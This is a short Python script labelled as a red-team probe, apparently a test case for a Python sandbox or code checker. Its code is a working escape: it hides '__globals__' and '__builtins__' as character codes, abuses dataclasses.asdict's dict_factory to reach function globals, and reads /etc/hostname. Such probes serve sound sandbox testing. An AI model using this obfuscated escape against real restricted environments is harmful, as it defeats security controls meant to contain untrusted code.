# family: red team, round 65b (asdict(x, dict_factory=f): keys are whatever f returns, yet taken for field names; getattr(func, key))
import dataclasses


@dataclasses.dataclass
class Row:
    x: int = 0


def spell(codes):
    return "".join([chr(c) for c in codes])


def pick(pairs):
    return {spell([95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95]): 0}


def grab(obj):
    for key in dataclasses.asdict(Row(), dict_factory=pick):
        return getattr(obj, key)


g = grab(grab)
print(g)
print(g["dataclasses"])
print(g[spell([95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95])].open("/etc/hostname").read())
